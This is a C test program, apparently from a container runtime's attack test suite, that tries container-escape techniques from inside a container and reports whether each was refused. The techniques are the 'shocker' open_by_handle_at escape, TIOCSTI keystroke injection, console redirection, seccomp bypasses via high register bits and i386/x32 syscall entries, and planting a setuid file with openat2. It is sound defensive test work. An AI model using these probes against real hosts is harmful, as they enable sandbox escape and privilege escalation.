// SPDX-License-Identifier: GPL-2.0
/*
 * attack_probe: single attacks on a container's walls, run from inside by
 * tests/guest/suites/70-attacks.  Each prints one line saying what
 * happened and exits 0 if the attack got through, 1 if it was refused,
 * 2 if it could not be tried here (the line says why).
 *
 *   shocker MARKER   open_by_handle_at() of inode 2, the root of the file
 *                    system ROOT lives on (the 2014 "shocker" escape), then
 *                    look for MARKER, a file only the host's "/" has
 *   keyring          add_key() to the session keyring (not namespaced)
 *   tiocsti          TIOCSTI on a pty of the container's own: typing into
 *                    a terminal
 *   tioccons         TIOCCONS on a pty of the container's own: the host's
 *                    console output (one global redirect) goes to it
 *   reboot-high      reboot(2) with LINUX_REBOOT_CMD_CAD_OFF, one of the
 *                    host's commands the filter refuses, and a bit set in
 *                    the upper half of the 64-bit register: the kernel
 *                    takes cmd as an unsigned int, so a filter comparing
 *                    all 64 bits lets it through ("got through": anything
 *                    but EPERM)
 *   i386 NR          system call NR through the 32-bit int $0x80 entry
 *   x32 NR           system call NR through the x32 entry
 *                    (both: "got through" means anything but EPERM)
 *   openat2-suid PATH SRC  openat2() of a new PATH with O_CREAT and mode
 *                    04755 (a struct no seccomp filter can look into), then
 *                    SRC's bytes written into it: "got through" if PATH is
 *                    still setuid then (the host's users run it)
 */
#define _GNU_SOURCE
#include <errno.h>
#include <stdarg.h>
#include <fcntl.h>
#include <linux/openat2.h>
#include <linux/reboot.h>
#include <setjmp.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

#ifndef __X32_SYSCALL_BIT
#define __X32_SYSCALL_BIT 0x40000000
#endif

static int result(int through, const char *fmt, ...) __attribute__((format(printf, 2, 3)));
static int result(int through, const char *fmt, ...)
{
	va_list ap;

	printf("%s: ", through ? "GOT THROUGH" : "refused");
	va_start(ap, fmt);
	vprintf(fmt, ap);
	va_end(ap);
	printf("\n");
	return through ? 0 : 1;
}

static int shocker(const char *marker)
{
	struct {
		struct file_handle fh;
		unsigned char bytes[MAX_HANDLE_SZ];
	} h;
	int mount_id, root, fd;

	memset(&h, 0, sizeof(h));
	h.fh.handle_bytes = MAX_HANDLE_SZ;
	if (name_to_handle_at(AT_FDCWD, "/", &h.fh, &mount_id, 0) < 0)
		return result(0, "name_to_handle_at(/): %s", strerror(errno));
	/* ext4's FILEID_INO32_GEN: inode 2 (the root), generation 0 (unchecked). */
	h.fh.handle_type = 1;
	h.fh.handle_bytes = 8;
	memset(h.bytes, 0, 8);
	h.bytes[0] = 2;
	root = open("/", O_RDONLY | O_DIRECTORY);
	fd = open_by_handle_at(root, &h.fh, O_RDONLY | O_DIRECTORY);
	if (fd < 0)
		return result(0, "open_by_handle_at: %s", strerror(errno));
	if (faccessat(fd, marker + (marker[0] == '/'), F_OK, 0) == 0)
		return result(1, "open_by_handle_at opened the host's /, %s is there", marker);
	return result(1, "open_by_handle_at opened inode 2 of the file system");
}

static int keyring(void)
{
	long r = syscall(SYS_add_key, "user", "pspace-attack", "x", 1, -3 /* session */);

	if (r < 0)
		return result(0, "add_key: %s", strerror(errno));
	return result(1, "add_key made key %ld in the kernel's (global) keyring", r);
}

static int tiocsti(void)
{
	int master = open("/dev/ptmx", O_RDWR | O_NOCTTY), slave;
	char c = 'x';

	if (master < 0 || grantpt(master) || unlockpt(master))
		return fprintf(stdout, "untried: no pty: %s\n", strerror(errno)), 2;
	slave = open(ptsname(master), O_RDWR | O_NOCTTY);
	if (slave < 0)
		return fprintf(stdout, "untried: %s: %s\n", ptsname(master), strerror(errno)), 2;
	if (ioctl(slave, TIOCSTI, &c) < 0)
		return result(0, "TIOCSTI: %s", strerror(errno));
	return result(1, "TIOCSTI typed into a terminal");
}

static int tioccons(void)
{
	int master = open("/dev/ptmx", O_RDWR | O_NOCTTY), slave;

	if (master < 0 || grantpt(master) || unlockpt(master))
		return fprintf(stdout, "untried: no pty: %s\n", strerror(errno)), 2;
	slave = open(ptsname(master), O_RDWR | O_NOCTTY);
	if (slave < 0)
		return fprintf(stdout, "untried: %s: %s\n", ptsname(master), strerror(errno)), 2;
	if (ioctl(slave, TIOCCONS) < 0)
		return result(0, "TIOCCONS: %s", strerror(errno));
	return result(1, "TIOCCONS redirected the host's console to a pty of the container");
}

static int reboot_high(void)
{
	unsigned long cmd = (1UL << 32) | LINUX_REBOOT_CMD_CAD_OFF;

	if (syscall(SYS_reboot, LINUX_REBOOT_MAGIC1, LINUX_REBOOT_MAGIC2, cmd, NULL) == 0)
		return result(1, "reboot(CAD_OFF | 1 << 32) succeeded");
	if (errno == EPERM)
		return result(0, "reboot(CAD_OFF | 1 << 32): EPERM");
	return result(1, "reboot(CAD_OFF | 1 << 32) reached the kernel (%s)", strerror(errno));
}

static long syscall_i386(long nr)
{
	long ret;

	asm volatile("int $0x80" : "=a"(ret) : "a"(nr), "b"(0), "c"(0), "d"(0), "S"(0), "D"(0)
		     : "memory");
	return ret;
}

static sigjmp_buf no_entry;

static void segv(int sig)
{
	(void)sig;
	siglongjmp(no_entry, 1);
}

static int entry(const char *abi, long nr)
{
	long r;

	/* Without IA32_EMULATION, int $0x80 is a general protection fault. */
	signal(SIGSEGV, segv);
	if (sigsetjmp(no_entry, 1))
		return fprintf(stdout, "untried: the %s entry is not in this kernel (SIGSEGV)\n", abi), 2;
	r = !strcmp(abi, "i386") ? syscall_i386(nr)
				 : syscall(nr | __X32_SYSCALL_BIT, 0, 0, 0, 0, 0) < 0 ? -errno : 0;

	if (r == -ENOSYS)
		return fprintf(stdout, "untried: the %s entry is not in this kernel (ENOSYS)\n", abi), 2;
	if (r == -EPERM)
		return result(0, "%s system call %ld: EPERM", abi, nr);
	return result(1, "%s system call %ld reached the kernel (%s)", abi, nr,
		      r < 0 ? strerror(-r) : "success");
}

static int openat2_suid(const char *path, const char *src)
{
	struct open_how how = { .flags = O_CREAT | O_EXCL | O_WRONLY | O_CLOEXEC, .mode = 04755 };
	char buf[65536];
	struct stat st;
	int fd, in;
	ssize_t n;

	umask(022);
	fd = syscall(SYS_openat2, AT_FDCWD, path, &how, sizeof(how));
	if (fd < 0)
		return result(0, "openat2 %s: %s", path, strerror(errno));
	in = open(src, O_RDONLY | O_CLOEXEC);
	if (in < 0)
		return printf("untried: %s: %s\n", src, strerror(errno)), 2;
	while ((n = read(in, buf, sizeof(buf))) > 0)
		if (write(fd, buf, n) != n)
			return result(0, "write %s: %s", path, strerror(errno));
	if (fstat(fd, &st) < 0)
		return result(0, "fstat %s: %s", path, strerror(errno));
	return result((st.st_mode & S_ISUID) != 0, "%s is %04o after the write", path,
		      (unsigned)(st.st_mode & 07777));
}

int main(int argc, char **argv)
{
	setvbuf(stdout, NULL, _IOLBF, 0);
	if (argc == 3 && !strcmp(argv[1], "shocker"))
		return shocker(argv[2]);
	if (argc == 2 && !strcmp(argv[1], "keyring"))
		return keyring();
	if (argc == 2 && !strcmp(argv[1], "tiocsti"))
		return tiocsti();
	if (argc == 2 && !strcmp(argv[1], "tioccons"))
		return tioccons();
	if (argc == 2 && !strcmp(argv[1], "reboot-high"))
		return reboot_high();
	if (argc == 3 && (!strcmp(argv[1], "i386") || !strcmp(argv[1], "x32")))
		return entry(argv[1], strtol(argv[2], NULL, 10));
	if (argc == 4 && !strcmp(argv[1], "openat2-suid"))
		return openat2_suid(argv[2], argv[3]);
	fprintf(stderr, "usage: attack_probe shocker MARKER | keyring | tiocsti | tioccons |"
			" reboot-high | i386 NR | x32 NR | openat2-suid PATH SRC\n");
	return 2;
}
